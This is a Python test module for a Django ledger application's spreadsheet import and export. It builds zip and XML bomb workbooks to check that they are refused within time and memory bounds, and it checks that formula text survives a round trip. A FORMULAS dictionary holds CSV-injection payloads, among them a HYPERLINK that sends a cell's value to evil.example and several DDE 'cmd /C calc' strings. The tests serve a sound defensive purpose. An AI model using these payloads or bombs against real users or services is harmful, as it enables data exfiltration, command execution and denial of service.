"""Hostile ledger files: shared-string and row bombs, formulas leaving and coming back.

The bombs are built here, small on disk (a sheet's XML streamed into the zip). Each is measured
and read in a child process that measures its own time and peak memory. The bounds asserted are
safety bounds, far above what the checked reader needs (a few seconds at most and under 40 MB on a
shared two-core machine) and far below what the unchecked one took (30 s to endless, 0.5 to 4 GB):
they catch a reader that parses the bomb, not a slow machine.
"""

from __future__ import annotations

import io
import itertools
import random
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from shuhi.core import uploads
from shuhi.jobs.models import Job
from shuhi.ledger.models import InformationAsset
from shuhi.ledger.spreadsheet.excel_format import LEDGER_COLUMNS
from shuhi.ledger.spreadsheet.exporter import export_ledger
from shuhi.ledger.spreadsheet.importer import import_ledger
from shuhi.ledger.spreadsheet.reader import _xlsx_limits, count_rows
from shuhi.ledger.tests.ledger_files import HEADERS, row, setup_ledger, write_csv, write_xlsx
from shuhi.testing.cast import api_client
from shuhi.testing.workbooks import (
    bounded_run,
    empty_rows,
    identical_strings,
    incompressible,
    text_row,
    xlsx,
)

pytestmark = pytest.mark.django_db
TOO_LARGE = ("too large when unpacked", "展開すると大きすぎる")
SECONDS, GROWN_MB = 20, 150  # safety bounds, see the module's docstring
HEADER = [text_row(1, HEADERS)]


@pytest.fixture
def ledger(cast):
    return setup_ledger(cast)


def read_in_child(path: Path):
    """Count the rows as the import page does, then read every row as the import does."""
    return bounded_run(f"""
        from pathlib import Path
        from shuhi.ledger.spreadsheet.reader import SpreadsheetError, count_rows, open_tables
        path = Path({str(path)!r})
        outcome = {{"count_rows": count_rows(path)}}
        try:
            with open_tables(path) as tables:
                outcome["read"] = sum(1 for _ in tables.ledger)
        except SpreadsheetError as exc:
            outcome["refused"] = str(exc)
    """)


def assert_refused_in_bounds(run) -> None:
    assert TOO_LARGE[0] in run.outcome.get("refused", ""), run.outcome
    # Refused at once: the page does not send it to the background first.
    assert run.outcome["count_rows"] == 0
    assert run.seconds < SECONDS, f"{run.seconds:.1f} s"
    assert run.grown_mb < GROWN_MB, f"{run.grown_mb:.0f} MB"


def shared_strings_bomb(padding: int = 0) -> bytes:
    strings = itertools.chain([incompressible(padding)] if padding else [], identical_strings(5_000_000))
    return xlsx({"台帳": HEADER}, strings)


def test_the_probes_five_million_shared_strings_are_refused_quickly_and_in_little_memory(tmp_path):
    path = tmp_path / "strings.xlsx"
    path.write_bytes(shared_strings_bomb())
    assert path.stat().st_size < 250_000
    assert_refused_in_bounds(read_in_child(path))


def test_shared_strings_packed_under_the_ratio_limit_are_counted_and_refused(tmp_path):
    path = tmp_path / "strings.xlsx"
    path.write_bytes(shared_strings_bomb(padding=1_200_000))
    run = read_in_child(path)
    assert_refused_in_bounds(run)
    assert "4,000,000 different texts" in run.outcome["refused"]


def test_blank_rows_count_towards_the_row_limit(tmp_path):
    path = tmp_path / "blank.xlsx"
    path.write_bytes(xlsx({"台帳": itertools.chain(HEADER, [incompressible(200_000)], empty_rows(2_000_000))}))
    run = read_in_child(path)
    assert_refused_in_bounds(run)
    assert "1,048,576 rows" in run.outcome["refused"]


def test_a_row_numbered_two_billion_is_refused_without_reading_the_blank_rows_before_it(tmp_path):
    path = tmp_path / "far.xlsx"
    path.write_bytes(xlsx({"台帳": [*HEADER, b'<row r="2000000000"><c><v>1</v></c></row>']}))
    assert path.stat().st_size < 2_000
    assert_refused_in_bounds(read_in_child(path))


def test_a_row_number_the_pre_scan_cannot_see_is_still_stopped_while_the_rows_are_read(tmp_path):
    # A ">" inside an attribute value is well-formed XML; it hides the row number from a byte scan.
    path = tmp_path / "hidden.xlsx"
    path.write_bytes(xlsx({"台帳": [*HEADER, b'<row x=">" r="2000000000"><c><v>1</v></c></row>']}))
    run = read_in_child(path)
    assert TOO_LARGE[0] in run.outcome.get("refused", ""), run.outcome
    assert run.seconds < SECONDS and run.grown_mb < GROWN_MB, run


def test_a_row_of_millions_of_cells_is_refused_before_openpyxl_holds_the_row(tmp_path):
    path = tmp_path / "wide.xlsx"
    path.write_bytes(xlsx({"台帳": [*HEADER, incompressible(300_000), b"<row>" + b"<c/>" * 5_000_000 + b"</row>"]}))
    run = read_in_child(path)
    assert_refused_in_bounds(run)
    assert "holds more than 250,000 items" in run.outcome["refused"]


def test_the_import_page_refuses_a_bomb_at_once_and_keeps_no_file(cast, ledger, login, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    client = login(cast.admin)
    bomb = SimpleUploadedFile("台帳.xlsx", shared_strings_bomb())
    response = client.post(reverse("ledger:import"), {"file": bomb})
    assert response.status_code == 200
    messages = [problem.message for problem in response.context["report"].errors]
    assert any(word in m for m in messages for word in TOO_LARGE), messages
    assert not Job.objects.exists() and not InformationAsset.objects.exists()
    assert not [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]


def test_the_api_refuses_a_bomb_with_the_reason(cast, ledger):
    response = api_client(cast.security).post(
        "/api/v1/assets/import/", {"file": SimpleUploadedFile("台帳.xlsx", shared_strings_bomb())},
        format="multipart")
    assert response.status_code == 400
    problems = " ".join(response.json()["error"]["fields"]["file"])
    assert any(word in problems for word in TOO_LARGE), problems
    assert not InformationAsset.objects.exists()


def test_count_rows_counts_blank_rows_and_rows_skipped_over(tmp_path):
    path = tmp_path / "gaps.xlsx"
    path.write_bytes(xlsx({"台帳": [*HEADER, b"<row/>", text_row(10, ["A-1"]), b"<row/>"]}))
    assert count_rows(path) == 11
    assert count_rows(write_xlsx(tmp_path / "plain.xlsx", [row("A-1"), row("A-2")])) == 3
    assert count_rows(write_csv(tmp_path / "plain.csv", [row("A-1"), row("A-2")])) == 3


FORMULAS = {"A-0001": '=HYPERLINK("http://evil.example/?x="&C3,"詳しくはこちら")', "A-0002": "+cmd|' /C calc'!A0",
            "A-0003": "@SUM(1+1)*cmd|' /C calc'!A0", "A-0004": "-2+3+cmd|' /C calc'!A0"}


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_like_text_leaves_the_ledger_as_text_and_comes_back_unchanged(cast, ledger, tmp_path, kind):
    source = write_xlsx(tmp_path / "in.xlsx", [row(code, notes=text, disposal_method=text[:200])
                                               for code, text in FORMULAS.items()])
    assert import_ledger(actor=cast.admin, organisation=cast.home, path=source).created == 4
    exported = tmp_path / f"out.{kind}"
    export_ledger(user_or_none=None, organisation=cast.home, path=exported)
    if kind == "xlsx":
        sheet = load_workbook(exported)["台帳"]
        notes = [column.key for column in LEDGER_COLUMNS].index("notes")
        cells = {r[0].value: r[notes] for r in sheet.iter_rows(min_row=2)}
        assert {code: cell.value for code, cell in cells.items()} == FORMULAS
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())
    else:
        text = exported.read_text(encoding="utf-8-sig")
        assert all(f"'{formula}" in text or f"\"'{formula}" in text.replace('""', '"') for formula in FORMULAS.values())
    report = import_ledger(actor=cast.admin, organisation=cast.home, path=exported)
    assert report.ok and report.unchanged == 4, report.errors
    assert dict(InformationAsset.objects.values_list("code", "notes")) == FORMULAS


@pytest.mark.parametrize("chunk", [1, 7, 300, 4097, 2**20])
def test_the_pre_scan_numbers_rows_as_openpyxl_does_wherever_its_reads_fall(monkeypatch, chunk):
    prefixed = b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="%d" spans="1:3">' \
               b"<x:c><x:v>1</x:v></x:c></x:row>"
    pick, rows, number = random.Random(1), [], 0
    for _ in range(2000):  # rows numbered, prefixed, jumping ahead or not numbered at all
        number += pick.choice([1, 1, 2, 7])
        rows.append(pick.choice([prefixed % number, text_row(number, ["a" * pick.randint(0, 300), 5])]))
        if pick.random() < 0.2:
            number += 1
            rows.append(b"<row/>")
    data = xlsx({"台帳": rows}, (b"<si><t>" + b"y" * pick.randint(0, 50) + b"</t></si>" for _ in range(3000)))
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    sheet = workbook["台帳"]
    sheet.reset_dimensions()
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == number
    monkeypatch.setattr(uploads, "CHUNK", chunk)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        scan = uploads.scan_package(archive, _xlsx_limits())
    assert (scan.rows, scan.shared_strings) == (number, 3000)
